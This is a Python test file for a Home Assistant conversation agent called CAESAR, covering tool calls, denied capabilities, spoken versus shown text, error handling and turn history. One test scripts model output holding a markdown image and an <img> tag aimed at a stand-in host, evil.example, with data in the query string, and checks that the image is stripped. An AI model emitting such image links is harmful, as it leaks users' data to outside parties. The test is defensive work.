"""What Assist shows of a turn: text as it comes, calls that Home Assistant never runs."""

from collections.abc import AsyncIterator
from typing import Any

from homeassistant.auth.models import User
from homeassistant.components import conversation
from homeassistant.components.conversation.chat_log import DATA_CHAT_LOGS
from homeassistant.core import Context, HomeAssistant
from homeassistant.helpers import chat_session, intent
import pytest

from custom_components.caesar.adapters.chat_log import async_feed
from custom_components.caesar.adapters.lasting_id import own_id
from custom_components.caesar.adapters.report import TurnReport
from custom_components.caesar.brain.loop import Finish, LoopEvent, RoundStarted
from custom_components.caesar.brain.provider import (
    Completed,
    ErrorKind,
    ProviderError,
    StopReason,
    TextDelta,
)
from custom_components.caesar.turn import ToolRequest
import custom_components.demo_house  # noqa: F401  before Home Assistant looks for it
from house.in_hass import async_build_house
from tests.fakes.provider import ScriptedProvider, Step
from tests.ha.house import CaesarHouse, async_move_in

END = Completed(stop=StopReason.END)
CALLS = Completed(stop=StopReason.TOOL_USE)
SATELLITE = "assist_satellite.childrens_room_satellite"


@pytest.fixture
async def house(hass: HomeAssistant, hass_admin_user: User) -> CaesarHouse:
    """Return CAESAR in the demo house."""
    await async_build_house(hass)
    return await async_move_in(hass, hass_admin_user.id)


def turn_on(entity_id: str) -> ToolRequest:
    """Return a call."""
    return ToolRequest(
        id="call-1",
        name="call_service",
        arguments={
            "domain": "light",
            "service": "turn_on",
            "target": {"entity_id": entity_id},
        },
    )


async def converse(
    house: CaesarHouse, steps: list[Step], context: Context, **more: Any
) -> tuple[conversation.ConversationResult, list[dict[str, Any]]]:
    """Run a turn of a scripted model, and return the answer and the log's contents."""
    house.assistant._providers = (ScriptedProvider(steps),)
    result = await conversation.async_converse(
        house.hass, "go", None, context, "en", agent_id="conversation.caesar", **more
    )
    assert result.conversation_id is not None
    log = house.hass.data[DATA_CHAT_LOGS][own_id(result.conversation_id)]
    return result, [content.as_dict() for content in log.content[1:]]


async def test_calls_and_results_are_shown_and_run_once(house: CaesarHouse) -> None:
    """The call is in the log, as the gate carried it out, once."""
    runs: list[str] = []
    house.hass.bus.async_listen(
        "call_service", lambda event: runs.append(event.data["domain"])
    )
    result, added = await converse(
        house,
        [
            [TextDelta(text="One moment. "), turn_on("light.kitchen_light"), CALLS],
            [TextDelta(text="The light "), TextDelta(text="is on!"), END],
        ],
        Context(user_id=house.user_id),
    )
    assert runs == ["light"]
    roles = [content["role"] for content in added]
    assert roles == ["user", "assistant", "tool_result", "assistant"]
    assert added[1]["content"] == "One moment. "
    assert added[1]["tool_calls"][0].tool_name == "call_service"
    assert added[2]["result"]["error"] is False
    assert added[3]["content"] == "The light is on!"
    assert result.response.speech["plain"]["speech"] == "The light is on!"


async def test_a_refusal_is_shown_as_an_error(house: CaesarHouse) -> None:
    """A model's claim doesn't turn a refusal into a success."""
    _, added = await converse(
        house,
        [[turn_on("light.path_light"), CALLS], [TextDelta(text="Done."), END]],
        Context(user_id=house.user_id),
    )
    [result] = [content for content in added if content["role"] == "tool_result"]
    assert result["result"]["error"] is True
    assert result["result"]["data"]["code"] == "capability_denied"


async def test_images_are_never_shown(house: CaesarHouse) -> None:
    """An image's address carries data out: it becomes a link nobody follows."""
    result, added = await converse(
        house,
        [
            [
                TextDelta(text="Look !"),
                TextDelta(text="[x](https://evil.example/?d=locked) <"),
                TextDelta(text="img src=https://evil.example>"),
                END,
            ]
        ],
        Context(user_id=house.user_id),
    )
    shown = added[-1]["content"]
    assert "![" not in shown
    assert "<img" not in shown
    assert result.response.speech["plain"]["speech"] == shown


async def test_a_satellite_hears_clean_text(house: CaesarHouse) -> None:
    """What is spoken has no markup; the rich text is kept beside it."""
    result, added = await converse(
        house,
        [[TextDelta(text="**Done.** See [this](https://a.example) 💡"), END]],
        Context(),
        satellite_id=SATELLITE,
    )
    spoken = result.response.speech["plain"]
    assert spoken["speech"] == "Done. See this"
    assert spoken["extra_data"]["text"].startswith("**Done.**")
    assert added[-1]["content"] == "Done. See this"


async def test_a_satellite_hears_the_first_sentence_at_once(
    hass: HomeAssistant,
) -> None:
    """Speech begins before the answer is whole; nothing of it is said twice."""
    heard: list[str] = []
    early: list[str] = []
    log = conversation.ChatLog(hass, "caesar")
    log.delta_listener = lambda _, delta: heard.append(delta.get("content") or "")

    async def turn() -> AsyncIterator[LoopEvent | TurnReport]:
        yield RoundStarted()
        for text in ("**It is", " on.** And `light.", "lamp` is off"):
            yield TextDelta(text=text)
        early.append("".join(heard))
        yield TurnReport(
            decision_id="d",
            conversation_id="caesar",
            shown="**It is on.** And `light.lamp` is off",
            spoken="It is on. And lamp is off",
            calls=(),
            finish=Finish.TEXT,
            outcomes=(),
        )

    await async_feed(log, "conversation.caesar", turn(), stream_text=False)
    assert early == ["It is on. "]
    assert "".join(heard) == "It is on. And lamp is off"


async def test_a_broken_answer_stays_visible_and_is_explained_once(
    house: CaesarHouse,
) -> None:
    """What was said stands in its message; the error that follows doesn't repeat it."""
    result, added = await converse(
        house,
        [[TextDelta(text="Well, "), ProviderError(ErrorKind.OVERLOADED)]],
        Context(user_id=house.user_id),
    )
    spoken = result.response.speech["plain"]
    assert spoken["speech"].startswith("The model is overloaded")
    assert spoken["extra_data"]["text"].split() == ["Well,", *spoken["speech"].split()]
    assert result.response.response_type.value == "error"
    assert [each["content"] for each in added[1:]] == ["Well, ", spoken["speech"]]


async def test_an_answer_that_another_brain_begins_anew(house: CaesarHouse) -> None:
    """What the first one said is marked, and is no part of the answer."""
    house.assistant._providers = (
        ScriptedProvider(
            [[TextDelta(text="It is "), ProviderError(ErrorKind.CUT)]], name="first"
        ),
        ScriptedProvider([[TextDelta(text="It is on."), END]], name="second"),
    )
    result = await conversation.async_converse(
        house.hass,
        "go",
        None,
        Context(user_id=house.user_id),
        "en",
        agent_id="conversation.caesar",
    )
    assert result.conversation_id is not None
    log = house.hass.data[DATA_CHAT_LOGS][own_id(result.conversation_id)]
    assert [content.as_dict()["content"] for content in log.content[2:]] == [
        "It is \n\n(This answer broke off. Another brain takes over.)\n\n",
        "It is on.",
    ]
    assert result.response.speech["plain"]["speech"] == "It is on."
    assert result.response.response_type.value == "action_done"


async def test_an_answer_without_words_gets_some(house: CaesarHouse) -> None:
    """A model that says nothing doesn't leave a person without an answer."""
    result, added = await converse(house, [[END]], Context(user_id=house.user_id))
    assert "no answer" in result.response.speech["plain"]["speech"]
    assert added[-1]["role"] == "assistant"


async def test_the_next_turn_remembers_the_last(house: CaesarHouse) -> None:
    """History comes from CAESAR's own memory, not from Home Assistant's log."""
    provider = ScriptedProvider([[TextDelta(text="Hi."), END]])
    house.assistant._providers = (provider,)
    for text in ("my cat is black", "what colour is my cat?"):
        await conversation.async_converse(
            house.hass,
            text,
            "chat-1",
            Context(user_id=house.user_id),
            "en",
            agent_id="conversation.caesar",
        )
    texts = [getattr(message, "text", "") for message in provider.requests[1].messages]
    assert texts == ["my cat is black", "Hi.", "what colour is my cat?"]
    other = await conversation.async_converse(
        house.hass,
        "and mine?",
        "chat-1",
        Context(),
        "en",
        agent_id="conversation.caesar",
    )
    assert other.conversation_id == "chat-1"
    assert len(provider.requests[2].messages) == 1


@pytest.mark.parametrize(
    ("step", "words"),
    [
        (Completed(stop=StopReason.NOT_UNDERSTOOD), "I didn't understand that."),
        (ProviderError(ErrorKind.UNAVAILABLE), "reach"),
    ],
)
async def test_words_of_a_failure_are_shown_once(
    house: CaesarHouse, step: Completed | ProviderError, words: str
) -> None:
    """A browser shows an error's words itself: what streamed too would stand twice."""
    streamed: list[str] = []
    house.assistant._providers = (ScriptedProvider([[step]]),)
    with (
        chat_session.async_get_chat_session(house.hass) as session,
        conversation.async_get_chat_log(
            house.hass,
            session,
            chat_log_delta_listener=lambda _, delta: streamed.append(
                delta.get("content", "")
            ),
        ) as log,
    ):
        result = await conversation.async_converse(
            house.hass,
            "go",
            session.conversation_id,
            Context(user_id=house.user_id),
            "en",
            agent_id="conversation.caesar",
        )
        said = result.response.speech["plain"]["speech"]
        assert words in said
        assert result.response.response_type is intent.IntentResponseType.ERROR
        assert "".join(streamed) == ""
        assert log.content[-1].as_dict()["content"] == said
